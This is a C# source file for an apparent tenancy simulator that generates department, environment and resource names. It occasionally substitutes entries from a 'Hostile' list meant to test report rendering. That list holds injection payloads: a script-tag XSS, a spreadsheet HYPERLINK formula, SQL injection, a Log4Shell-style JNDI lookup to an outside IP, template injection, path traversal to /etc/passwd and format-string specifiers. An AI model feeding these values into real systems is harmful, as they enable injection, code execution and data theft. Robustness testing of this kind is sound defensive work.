namespace Plumbline.Simulator.Tenancies.Generation;

/// <summary>Names as people give them, now and then one that somebody chose to do harm with.</summary>
internal static class Words
{
    private const int HostileOneIn = 40;

    private static readonly string[] Departments =
    [
        "platform",
        "payments",
        "logistics",
        "analytics",
        "security",
        "network",
        "identity",
        "shop",
        "billing",
        "research",
        "claims",
        "fleet",
        "media",
        "risk",
        "support",
        "warehouse",
    ];

    private static readonly string[] Environments = ["prod", "test", "dev", "staging", "sandbox", "dr"];

    private static readonly string[] Things =
    [
        "api",
        "orders",
        "ledger",
        "archive",
        "backup",
        "cache",
        "events",
        "gateway",
        "images",
        "jobs",
        "mail",
        "reports",
        "search",
        "sessions",
        "stock",
        "users",
    ];

    // What breaks reports: markup, formulas, control sequences, directions, lengths, line ends.
    private static readonly string[] Hostile =
    [
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://198.51.100.7\",\"key\")",
        "@SUM(A1:A9)",
        "-2+3",
        "\u001b[31mred\u001b[0m",
        "a\u202Egnp.exe",
        "two\nlines",
        "tab\there",
        "quote\"quote'quote",
        "'; DROP TABLE keys; --",
        "| pipe | `tick` | [link](javascript:alert(1))",
        "${jndi:ldap://198.51.100.7/a}",
        "{{7*7}}",
        "ключ-данных",
        "鍵🔑",
        "../../etc/passwd",
        "%s%n%x",
        " leading and trailing ",
        new('x', 255),
    ];

    public static string Thing(Dice dice) => dice.Pick(Things);

    public static string Department(Dice dice) => dice.Pick(Departments);

    public static string Environment(Dice dice) => dice.Pick(Environments);

    /// <summary>A compartment's: a department at the top, environments and applications below.</summary>
    public static string Compartment(Dice dice, int depth) =>
        depth == 1 ? Department(dice)
        : dice.OneIn(2) ? Environment(dice)
        : $"{Department(dice)}-{Thing(dice)}";

    public static string Display(Dice dice, string what, int number) =>
        dice.OneIn(HostileOneIn) ? dice.Pick(Hostile) : $"{Thing(dice)}-{Environment(dice)}-{what}-{number}";

    public static string Sentence(Dice dice) => $"For the {Thing(dice)} of {Department(dice)} in {Environment(dice)}";
}
